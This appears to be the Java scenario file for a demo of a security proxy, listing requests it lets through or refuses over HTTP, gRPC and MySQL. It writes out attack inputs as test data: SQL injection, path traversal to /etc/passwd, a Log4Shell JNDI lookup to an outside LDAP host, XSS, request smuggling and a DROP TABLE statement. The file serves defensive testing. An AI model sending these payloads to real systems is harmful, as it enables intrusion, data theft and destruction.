package io.bulwark.proxy.demo;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.zip.GZIPOutputStream;

/** The script of the demo. */
public final class Scenes {
    private static final int LONG_CONNECTION = 50;

    private Scenes() {}

    public static List<Scene> all() {
        return List.of(
                passes("an order is read", get("/orders/42")),
                passes(
                        "an order is placed",
                        post("/orders", "application/json", text("{\"item\":7,\"note\":\"O'Reilly\"}"))),
                passes("a search for the words 'union select'", get("/search?q=european+union+select+committee")),
                refused(
                        "SQL injection in a parameter",
                        "sqli",
                        get("/orders/42?id=1%27%20UNION%20SELECT%20card%20FROM%20users--")),
                refused("path traversal, encoded twice", "traversal", get("/static/%252e%252e/%252e%252e/etc/passwd")),
                refused(
                        "log4shell in a header",
                        "log4shell",
                        get("/orders/42", "User-Agent: ${${lower:j}ndi:ldap://198.51.100.7/a}")),
                refused(
                        "SQL injection in a gzipped body",
                        "sqli",
                        gzipPost("/orders", "{\"id\":\"1' OR '1'='1' UNION SELECT password FROM users\"}")),
                refused("a card number leaves in a response", "dlp", get("/reports/payments")),
                refused("a call that no allowlist rule covers", "allowlist", request("DELETE", "/orders/42")),
                new Scene("request smuggling, two framings at once", List.of(smuggled()), 400, "http."),
                afterManyGood());
    }

    /** What is tried over HTTP/2. */
    public static List<Http2Scene> overHttp2() {
        return List.of(
                new Http2Scene("gRPC: an order is placed", List.of(place("two lamps")), 0, "grpc-status 0", ""),
                deniedCall(
                        "gRPC: SQL injection in a compressed message",
                        "sqli",
                        Http2Scene.Request.call(
                                "Place", GrpcMessage.gzipped("1' OR '1'='1' UNION SELECT password FROM users"))),
                deniedCall(
                        "gRPC: a card number leaves in an answer",
                        "dlp",
                        Http2Scene.Request.call("Get", GrpcMessage.of("13"))),
                deniedCall(
                        "gRPC: a method that no allowlist rule covers",
                        "allowlist",
                        Http2Scene.Request.call("Purge", GrpcMessage.of("all"))),
                amongOthers());
    }

    /** What is tried with a database. */
    public static List<MysqlScene> overMysql() {
        var traced = "/*traceparent='00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01'*/";
        var read = "SELECT note FROM orders WHERE id = 42";
        var injected = "SELECT note FROM orders WHERE id = '' OR 1=1 -- '";
        return List.of(
                new MysqlScene("MySQL: an order is read", List.of(read), "rows 1", ""),
                new MysqlScene(
                        "MySQL: UNION with a tracer's comment",
                        List.of(read + " UNION SELECT note FROM orders " + traced),
                        "rows 2",
                        ""),
                deniedStatement("MySQL: injection behind a quote", "mysql-tautology", injected),
                deniedStatement(
                        "MySQL: a UNION hidden in a version comment",
                        "mysql-hidden-keyword",
                        "SELECT note FROM orders WHERE id = 1 /*!50000 UNION SELECT card_number FROM orders*/"),
                deniedStatement("MySQL: card numbers leave in a result", "dlp", "SELECT card_number FROM orders"),
                deniedStatement(
                        "MySQL: a table that no allowlist rule covers", "allowlist", "SELECT name, salary FROM staff"),
                new MysqlScene(
                        "MySQL: a connection after two refusals",
                        List.of(injected, "DROP TABLE orders", read),
                        "rows 1",
                        ""));
    }

    private static MysqlScene deniedStatement(String title, String rule, String statement) {
        return new MysqlScene(title, List.of(statement), "error 1227", rule);
    }

    private static Http2Scene.Request place(String note) {
        return Http2Scene.Request.call("Place", GrpcMessage.of(note));
    }

    private static Http2Scene deniedCall(String title, String rule, Http2Scene.Request call) {
        return new Http2Scene(title, List.of(call), 0, "grpc-status 7", rule);
    }

    private static Http2Scene amongOthers() {
        var good = Http2Scene.Request.get("/orders/42");
        var bad = Http2Scene.Request.get("/orders/42?next=%3Cscript%3Ealert(1)%3C/script%3E");
        return new Http2Scene(
                "HTTP/2: an attack among five streams",
                List.of(good, place("a desk"), bad, good, good),
                2,
                "403",
                "xss");
    }

    private static Scene passes(String title, byte[] request) {
        return new Scene(title, List.of(request), 200, "");
    }

    private static Scene refused(String title, String rule, byte[] request) {
        return new Scene(title, List.of(request), 403, rule);
    }

    private static Scene afterManyGood() {
        var requests = new ArrayList<>(Collections.nCopies(LONG_CONNECTION - 1, get("/orders/42")));
        requests.add(get("/orders/42?next=%3Cscript%3Ealert(1)%3C/script%3E"));
        return new Scene("an attack as request " + LONG_CONNECTION + " of a connection", requests, 403, "xss");
    }

    private static byte[] get(String target, String... headers) {
        return request("GET", target, headers);
    }

    private static byte[] request(String method, String target, String... headers) {
        var more = headers.length == 0 ? "" : String.join("\r\n", headers) + "\r\n";
        return text(method + " " + target + " HTTP/1.1\r\nHost: shop.test\r\nAccept: */*\r\n" + more + "\r\n");
    }

    private static byte[] post(String target, String type, byte[] body, String... headers) {
        var more = headers.length == 0 ? "" : String.join("\r\n", headers) + "\r\n";
        var head = text("POST " + target + " HTTP/1.1\r\nHost: shop.test\r\nContent-Type: " + type + "\r\n" + more
                + "Content-Length: " + body.length + "\r\n\r\n");
        return joined(head, body);
    }

    private static byte[] gzipPost(String target, String body) {
        var packed = new ByteArrayOutputStream();
        try (var gzip = new GZIPOutputStream(packed)) {
            gzip.write(text(body));
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        return post(target, "application/json", packed.toByteArray(), "Content-Encoding: gzip");
    }

    private static byte[] smuggled() {
        var inner = "GET /admin HTTP/1.1\r\nHost: shop.test\r\n\r\n";
        var framings = "Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n";
        return text("POST /orders HTTP/1.1\r\nHost: shop.test\r\n" + framings + "0\r\n\r\n" + inner);
    }

    private static byte[] joined(byte[] first, byte[] second) {
        var both = new byte[first.length + second.length];
        System.arraycopy(first, 0, both, 0, first.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }

    private static byte[] text(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
